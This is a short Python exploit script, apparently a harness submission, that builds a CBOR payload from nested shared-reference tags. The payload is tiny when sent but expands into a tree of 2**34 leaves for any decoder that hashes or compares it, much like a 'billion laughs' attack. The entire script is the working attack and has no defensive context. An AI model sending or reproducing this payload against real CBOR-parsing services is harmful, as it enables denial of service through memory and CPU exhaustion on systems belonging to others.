"""A key that is small as it is sent, and a tree of 2**34 leaves to whoever hashes or compares it: pairs of pairs by reference."""
exec(open("/work/say.py").read())
def shared(value): return b"\xd8\x1c" + value
def again(n): return b"\xd8\x1d" + head(0, n)
parts = [shared(thing(b"tuple", b"\x01", b"\x02"))] + [shared(thing(b"tuple", again(n), again(n))) for n in range(34)]
answer(head(4, 36) + b"".join(parts) + head(5, 1) + again(34) + b"\x00")
time.sleep(5)
